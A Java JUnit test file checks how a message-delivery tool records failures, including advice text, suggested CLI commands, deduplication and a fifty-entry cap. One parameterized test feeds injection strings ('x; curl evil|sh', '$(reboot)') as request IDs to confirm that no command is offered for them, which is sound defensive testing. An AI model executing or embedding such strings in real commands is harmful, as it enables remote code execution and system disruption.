package dev.tidings.local.ops;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tidings.contract.DeliveryResult;
import dev.tidings.contract.Reason;
import dev.tidings.contract.Status;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

class FailuresTest {
    private static final Instant START = Instant.parse("2026-11-30T10:00:00Z");

    private final Failures failures = new Failures();

    @Test
    void tellsWhatFailedAndWhatToDo() {
        failures.take(List.of(result("order-1", Status.FAILED, 0, Reason.TEMPLATE_UNAVAILABLE)));

        assertThat(failures.all())
                .containsExactly(new Failure(
                        START.toEpochMilli(),
                        "order-1",
                        1,
                        "failed",
                        "whatsapp/shop",
                        "TEMPLATE_UNAVAILABLE",
                        "The provider does not have the template: deleted, paused, or not approved. Look it up there.",
                        "./tidings show order-1"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"x; curl evil|sh", "$(reboot)", "+6581234567", "a\nb", ""})
    void offersNoCommandWithAnIdThatHasNotTheFormOfOne(String id) {
        failures.take(List.of(result(id, Status.REJECTED, 0, Reason.INVALID_REQUEST)));

        assertThat(failures.all()).singleElement().satisfies(failure -> {
            assertThat(failure.requestId()).isEqualTo("(malformed id)");
            assertThat(failure.command()).isEmpty();
            assertThat(failure.advice()).doesNotContain("timeline");
        });
    }

    @Test
    void tellsNoAccountOfWhatNobodyHasChecked() {
        failures.take(List.of(result("order-1", Status.REJECTED, 0, Reason.INVALID_REQUEST)));

        assertThat(failures.all()).extracting(Failure::account).containsExactly("");
        assertThat(failures.all()).extracting(Failure::command).containsExactly("./tidings show order-1");
    }

    @Test
    void keepsTheNewestFifty() {
        IntStream.range(0, 200)
                .map(i -> (i * 7) % 200)
                .forEach(i -> failures.take(List.of(result("r" + i, Status.UNKNOWN, i, Reason.UNCERTAIN))));

        assertThat(failures.all())
                .extracting(Failure::requestId)
                .hasSize(50)
                .startsWith("r199", "r198")
                .endsWith("r150");
    }

    @Test
    void takesARepeatedEventOnce() {
        DeliveryResult failed = result("order-1", Status.FAILED, 0, Reason.PROVIDER_ERROR);
        failures.take(List.of(failed, failed));
        failures.take(List.of(failed));

        assertThat(failures.all()).hasSize(1);
    }

    @ParameterizedTest
    @EnumSource(
            value = Status.class,
            names = {"REJECTED", "FAILED", "EXPIRED", "UNKNOWN", "UNDELIVERED"},
            mode = EnumSource.Mode.EXCLUDE)
    void leavesOutWhatIsNoFailure(Status status) {
        failures.take(List.of(result("order-1", status, 0, null)));
        assertThat(failures.all()).isEmpty();
    }

    @Test
    void aFallbackThatReachedNobodyIsOne() {
        failures.take(List.of(result("order-1", Status.FALLBACK_ENDED, 0, Reason.SMS_CAP_REACHED)));
        assertThat(failures.all()).extracting(Failure::status).containsExactly("fallback ended");
    }

    @ParameterizedTest
    @EnumSource(Reason.class)
    @NullSource
    void hasAdviceForEveryReason(@Nullable Reason reason) {
        assertThat(Advice.on(reason)).endsWith(".");
    }

    @Test
    void holdsNothingThatSomebodyWrote() {
        failures.take(List.of(result("order-1", Status.FAILED, 0, Reason.CONTENT_REJECTED)));
        assertThat(failures.all().toString()).doesNotContain("detail of", "acme", "provider-id", "note");
    }

    private static DeliveryResult result(String id, Status status, long second, @Nullable Reason reason) {
        return new DeliveryResult(
                id + "/" + status,
                id,
                "acme",
                null,
                1,
                status,
                "whatsapp",
                "shop",
                1,
                reason,
                "detail of the failure",
                "132001",
                "provider-id",
                false,
                null,
                START.plusSeconds(second),
                null,
                Map.of("note", "metadata"));
    }
}
